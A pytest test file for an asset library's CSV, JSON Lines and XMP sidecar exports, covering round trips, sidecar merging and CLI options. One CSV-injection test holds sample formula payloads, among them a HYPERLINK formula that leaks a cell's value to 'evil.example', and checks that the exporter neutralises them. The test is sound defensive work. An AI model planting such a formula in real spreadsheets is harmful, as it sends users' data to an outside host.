"""Exports on a real SQLite store: CSV and JSON Lines content, round trips, XMP sidecars, CLI.

XMP sidecars are read back with exempi (python-xmp-toolkit, needs the system library
``libexempi8``), the XMP toolkit that DAM tools build on.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from libxmp import XMPMeta
from search_library import library_store, run_cli, uri

from assetlens.search.catalog.export import export_csv, export_jsonl, export_xmp, iter_docs, sidecar_path
from assetlens.search.catalog.meta import declare_fields, import_meta, set_meta
from assetlens.search.store import Store, Tag

DC = "http://purl.org/dc/elements/1.1/"
ASSETLENS = "https://assetlens.dev/ns/1.0/"
XMP_BASIC = "http://ns.adobe.com/xap/1.0/"
NASTY = 'Tom & Jerry <"quoted"> Größe ☃ \x07bell'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    yield from library_store(tmp_path)


def read_xmp(path: Path) -> XMPMeta:
    xmp = XMPMeta()
    xmp.parse_from_str(path.read_text(encoding="utf-8"))  # raises XMPError when it is not XMP
    return xmp


def items(xmp: XMPMeta, ns: str, name: str) -> list[str]:
    return [xmp.get_array_item(ns, name, i) for i in range(1, xmp.count_array_items(ns, name) + 1)]


def rich_meta(store: Store) -> None:
    declare_fields(store, {"due": "date", "rating": "number", "channels": "list", "approved": "boolean"})
    values = {"due": "2025-06-30", "rating": "4.5", "channels": "web, print", "approved": "yes"}
    set_meta(store, 1, {**values, "title": NASTY, "camera.make": "Nikon", "note": 'a, "b"\nc'})
    set_meta(store, 2, {"rating": "3", "channels": "social"})
    set_meta(store, 3, {"region": "FR-IDF", "credit": "Ünïcødé; 100%"})


# --- CSV and JSON Lines ----------------------------------------------------------------------


def test_jsonl_carries_every_part_of_an_asset(store: Store, tmp_path: Path) -> None:
    out = io.StringIO()
    assert export_jsonl(store, out) == 5
    docs = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [d["id"] for d in docs] == [1, 2, 3, 4, 5]
    beach = docs[0]
    assert beach["uri"] == uri(tmp_path, "photos/beach.jpg") and beach["kind"] == "image"
    assert beach["content_hash"] == "h-beach" and beach["width"] == 4000 and beach["size"] == 16
    assert beach["meta"] == {"region": "DE", "keywords": ["summer", "beach"], "status": "approved"}
    assert beach["embedded"]["title"] == "Beach day"
    assert beach["tags"] == [{"tag": "beach", "score": 0.9, "source": "clip", "t": None},
                             {"tag": "shoe", "score": 0.3, "source": "clip", "t": None}]  # fmt: skip
    assert docs[1]["tags"][0] == {"tag": "shoe", "score": 0.8, "source": "user", "t": None}
    assert docs[2]["transcript"] == "Welcome to the spring collection" and docs[2]["duration"] == 12.5
    assert beach["transcript"] is None and docs[4]["ingest_status"] == "failed"
    assert docs[4]["error"] == "decode error"


def test_csv_flattens_meta_tags_and_transcript(store: Store, tmp_path: Path) -> None:
    rich_meta(store)
    out = io.StringIO()
    assert export_csv(store, out) == 5
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    header = list(rows[0])
    assert header[:15] == ["id", "uri", "kind", "mime", "size", "width", "height", "duration", "created",
                           "content_hash", "ingest_status", "error", "tags", "tag_scores",
                           "transcript"]  # fmt: skip
    assert "meta.camera.make" in header and "embedded.camera" in header
    beach, shoe, spring = rows[0], rows[1], rows[2]
    assert beach["tags"] == "beach; shoe" and beach["tag_scores"] == "beach=0.9000; shoe=0.3000"
    assert beach["meta.channels"] == "web, print"  # a declared list: comma-separated
    assert beach["meta.keywords"] == '["summer", "beach"]'  # undeclared list: JSON
    assert (
        beach["meta.approved"] == "true"
        and beach["meta.rating"] == "4.5"
        and beach["meta.due"] == "2025-06-30"
    )
    assert beach["meta.title"] == NASTY and beach["meta.note"] == 'a, "b"\nc'
    assert beach["meta.camera.make"] == "Nikon" and beach["embedded.keywords"] == "sea"
    assert shoe["tags"] == "shoe; red" and shoe["meta.region"] == "AT" and shoe["meta.camera.make"] == ""
    assert spring["transcript"] == "Welcome to the spring collection" and spring["embedded.region"] == "FR"


def test_export_filter_restricts_assets(store: Store) -> None:
    assert [d["id"] for d in iter_docs(store, "kind:image region:DE")] == [1]
    assert [d["id"] for d in iter_docs(store, {"tag": "beach"})] == [1, 3]
    out = io.StringIO()
    assert export_csv(store, out, "kind:video") == 1
    assert len(out.getvalue().splitlines()) == 2


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_wipe_import_restores_meta(store: Store, tmp_path: Path, fmt: str) -> None:
    rich_meta(store)
    before = {d["id"]: d["meta"] for d in iter_docs(store)}
    target = tmp_path / f"library.{fmt}"
    with target.open("w", encoding="utf-8", newline="") as f:
        (export_jsonl if fmt == "jsonl" else export_csv)(store, f)
    with store.transaction():
        for asset_id in before:
            store.set_meta(asset_id, {})
    report = import_meta(store, target)
    assert report.rows == 5 and report.matched == 5 and not report.errors and not report.unmatched
    after = {d["id"]: d["meta"] for d in iter_docs(store)}
    # CSV cannot say "null" (an empty cell is ignored): the copy's explicit null does not come back.
    expected = {**before, 4: {}} if fmt == "csv" else before
    assert after == expected
    assert after[1]["channels"] == ["web", "print"] and after[1]["rating"] == 4.5


def test_csv_quotes_cells_a_spreadsheet_would_run_and_imports_them_back(store: Store, tmp_path: Path) -> None:
    # CSV injection: opened in Excel or LibreOffice, these cells would run as formulas.
    formulas = {
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "phone": "+1 555 0100",
        "code": "-2+3",
        "who": "@SUM(A1:A9)",
        "tabbed": "\t=1+1",
        "quoted": "'=already quoted",
    }
    declare_fields(store, {"delta": "number"})
    set_meta(store, 1, {**formulas, "delta": "-5", "plain": "it's fine"})
    before = store.meta_of(1)
    target = tmp_path / "library.csv"
    with target.open("w", encoding="utf-8", newline="") as f:
        export_csv(store, f)

    beach = next(csv.DictReader(target.open(encoding="utf-8", newline="")))
    assert {k: beach[f"meta.{k}"] for k in formulas} == {k: "'" + v for k, v in formulas.items()}
    assert beach["meta.delta"] == "-5" and beach["meta.plain"] == "it's fine"  # a number is no formula
    assert beach["uri"] == uri(tmp_path, "photos/beach.jpg")

    with store.transaction():
        store.set_meta(1, {})
    report = import_meta(store, target)
    assert not report.errors
    assert store.meta_of(1) == before and before["delta"] == -5
    assert {k: before[k] for k in formulas} == formulas


# --- XMP sidecars ----------------------------------------------------------------------------


def test_xmp_sidecars_read_by_exempi(store: Store, tmp_path: Path) -> None:
    rich_meta(store)
    store.replace_tags(1, "user", [Tag("Fish & <Chips>", 1.0, "user")])
    report = export_xmp(store, "ingest_status:ok")
    assert report.assets == 4 and report.skipped == [] and report.output is None
    sidecar = tmp_path / "files" / "photos" / "beach.jpg.xmp"
    assert sidecar.exists() and not (tmp_path / "files" / "photos" / "beach.xmp").exists()
    xmp = read_xmp(sidecar)
    assert items(xmp, DC, "subject") == ["Fish & <Chips>", "beach", "shoe", "summer", "sea"]
    # XML 1.0 cannot hold the bell character: it is dropped, everything else is escaped.
    assert xmp.get_localized_text(DC, "title", None, "x-default") == 'Tom & Jerry <"quoted"> Größe ☃ bell'
    assert xmp.get_property(ASSETLENS, "assetId") == "1"
    assert xmp.get_property(ASSETLENS, "contentHash") == "h-beach"
    assert xmp.get_property(ASSETLENS, "tags[2]/assetlens:name") == "beach"
    assert xmp.get_property(ASSETLENS, "tags[2]/assetlens:score") == "0.9000"
    assert xmp.get_property(ASSETLENS, "tags[2]/assetlens:source") == "clip"
    fields = {
        xmp.get_property(ASSETLENS, f"fields[{i}]/assetlens:name"): xmp.get_property(
            ASSETLENS, f"fields[{i}]/assetlens:value"
        )
        for i in range(1, xmp.count_array_items(ASSETLENS, "fields") + 1)
    }
    assert fields["note"] == 'a, "b"\nc' and fields["rating"] == "4.5" and fields["camera.make"] == "Nikon"
    assert fields["channels"] == '["web", "print"]'
    video = read_xmp(tmp_path / "files" / "videos" / "spring.mp4.xmp")
    assert items(video, DC, "subject") == ["beach"]
    assert not (tmp_path / "files" / "broken" / "bad.jpg.xmp").exists()


def test_xmp_embedded_metadata_fills_standard_fields(store: Store, tmp_path: Path) -> None:
    with store.transaction():
        embedded = {"creator": "Ann", "copyright": "© 2024 ACME", "usage_terms": "web only"}
        store.update_asset(2, {"embedded": {**embedded, "description": "A red shoe"}})
    set_meta(store, 2, {"description": "Our red shoe"})
    export_xmp(store, "id:2")
    xmp = read_xmp(tmp_path / "files" / "photos" / "shoe red.png.xmp")
    assert xmp.get_localized_text(DC, "description", None, "x-default") == "Our red shoe"  # meta wins
    assert xmp.get_localized_text(DC, "rights", None, "x-default") == "© 2024 ACME"
    assert items(xmp, DC, "creator") == ["Ann"]
    rights = "http://ns.adobe.com/xap/1.0/rights/"
    assert xmp.get_localized_text(rights, "UsageTerms", None, "x-default") == "web only"


def test_xmp_sidecar_dir_mirrors_folders_and_base_naming(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "sidecars"
    report = export_xmp(store, "ingest_status:ok", sidecar_dir=out, naming="base")
    assert report.assets == 4 and report.output == str(out)
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*.xmp")) == [
        "copies/beach copy.xmp", "photos/beach.xmp", "photos/shoe red.xmp", "videos/spring.xmp",
    ]  # fmt: skip
    assert not list((tmp_path / "files").rglob("*.xmp"))
    assert sidecar_path("/a/b/c.tar.gz", "ext") == Path("/a/b/c.tar.gz.xmp")
    assert sidecar_path("/a/b/c.tar.gz", "base") == Path("/a/b/c.tar.xmp")


def test_xmp_base_naming_reports_collisions(store: Store, tmp_path: Path) -> None:
    twin = tmp_path / "files" / "photos" / "beach.png"
    twin.write_bytes(b"x")
    store.upsert_asset({"uri": str(twin), "size": 1, "mtime": 0.0, "status": "ok", "kind": "image"})
    report = export_xmp(store, "ingest_status:ok", naming="base")
    assert report.assets == 4 and report.skipped_count == 1
    assert report.skipped[0][0] == str(twin) and "also the sidecar of" in report.skipped[0][1]


FOREIGN = """<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 7.0">
 <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
  <rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/"
    xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:darktable="http://darktable.sf.net/"
    xmp:Rating="4" darktable:history_end="3">
   <dc:subject><rdf:Bag><rdf:li>portfolio</rdf:li><rdf:li>Beach</rdf:li></rdf:Bag></dc:subject>
   <dc:title><rdf:Alt><rdf:li xml:lang="x-default">Their title</rdf:li></rdf:Alt></dc:title>
  </rdf:Description>
 </rdf:RDF>
</x:xmpmeta>
<?xpacket end="w"?>
"""


def test_foreign_sidecars_are_kept_unless_overwrite_merges(store: Store, tmp_path: Path) -> None:
    sidecar = tmp_path / "files" / "photos" / "beach.jpg.xmp"
    sidecar.write_text(FOREIGN, encoding="utf-8")
    report = export_xmp(store, "id:1")
    assert report.assets == 0 and "written by another program" in report.skipped[0][1]
    assert sidecar.read_text(encoding="utf-8") == FOREIGN

    report = export_xmp(store, "id:1", overwrite=True)
    assert report.assets == 1 and report.merged == 1
    xmp = read_xmp(sidecar)
    assert xmp.get_property(XMP_BASIC, "Rating") == "4"  # the other program's properties stay
    assert xmp.get_property("http://darktable.sf.net/", "history_end") == "3"
    assert items(xmp, DC, "subject") == ["portfolio", "Beach", "shoe", "summer", "sea"]
    assert xmp.get_localized_text(DC, "title", None, "x-default") == "Beach day"

    # Now partly ours: later exports merge without --overwrite and drop only their own stale keywords.
    store.replace_tags(1, "clip", [Tag("sand", 0.7, "clip")])
    report = export_xmp(store, "id:1")
    assert report.merged == 1
    xmp = read_xmp(sidecar)
    assert items(xmp, DC, "subject") == ["portfolio", "Beach", "sand", "summer", "sea"]
    assert xmp.get_property(XMP_BASIC, "Rating") == "4"
    assert xmp.count_array_items(ASSETLENS, "tags") == 1


def test_our_own_sidecars_are_rewritten_and_broken_ones_need_overwrite(store: Store, tmp_path: Path) -> None:
    export_xmp(store, "id:2")
    sidecar = tmp_path / "files" / "photos" / "shoe red.png.xmp"
    store.replace_tags(2, "clip", [])
    assert export_xmp(store, "id:2").merged == 1
    assert items(read_xmp(sidecar), DC, "subject") == ["shoe", "summer"]  # red was a clip tag
    sidecar.write_text("<x:xmpmeta>not closed")
    report = export_xmp(store, "id:2")
    assert report.assets == 0 and "not valid XML" in report.skipped[0][1]
    assert export_xmp(store, "id:2", overwrite=True).assets == 1
    assert items(read_xmp(sidecar), DC, "subject") == ["shoe", "summer"]


def test_xmp_min_score_and_missing_files(store: Store, tmp_path: Path) -> None:
    (tmp_path / "files" / "videos" / "spring.mp4").unlink()
    report = export_xmp(store, "ingest_status:ok", min_score=0.5)
    assert report.skipped == [(uri(tmp_path, "videos/spring.mp4"), "the file is gone: no sidecar beside it")]
    xmp = read_xmp(tmp_path / "files" / "photos" / "beach.jpg.xmp")
    assert items(xmp, DC, "subject") == ["beach", "summer", "sea"]  # shoe scored 0.3
    assert xmp.count_array_items(ASSETLENS, "tags") == 2  # every tag keeps its score in our namespace


# --- command line ----------------------------------------------------------------------------


def test_cli_export(store: Store, tmp_path: Path) -> None:
    result = run_cli(tmp_path, "export", "--format", "jsonl", "--filter", "kind:video")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout.splitlines()[0])["id"] == 3

    target = tmp_path / "out.csv"
    result = run_cli(tmp_path, "export", "--output", str(target), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == {"format": "csv", "assets": 5, "output": str(target), "merged": 0,
                                         "skipped": [], "skipped_count": 0}  # fmt: skip
    assert target.read_text().startswith("id,uri,kind")
    assert not list(tmp_path.glob(".*assetlens-tmp"))

    out = tmp_path / "xmp"
    result = run_cli(tmp_path, "export", "--format", "xmp", "--sidecar-dir", str(out), "--naming", "base")
    assert result.exit_code == 0, result.output
    assert result.output.startswith(f"exported 5 assets as xmp to {out}")

    usage_errors = [
        ["export"],
        ["export", "--format", "csv", "--sidecar-dir", "x"],
        ["export", "--format", "xmp", "--output", "a.csv"],
        ["export", "--format", "csv", "--json"],
    ]
    for bad in usage_errors:
        assert run_cli(tmp_path, *bad).exit_code == 2
    result = run_cli(tmp_path, "export", "--format", "csv", "--filter", "created>=soon")
    assert result.exit_code == 1 and result.output.startswith("error: ")
    result = run_cli(tmp_path, "export", "--format", "csv", "--output", str(tmp_path / "no" / "dir.csv"))
    assert result.exit_code == 1 and "cannot write" in result.output
    assert run_cli(tmp_path, "export", "--help").exit_code == 0
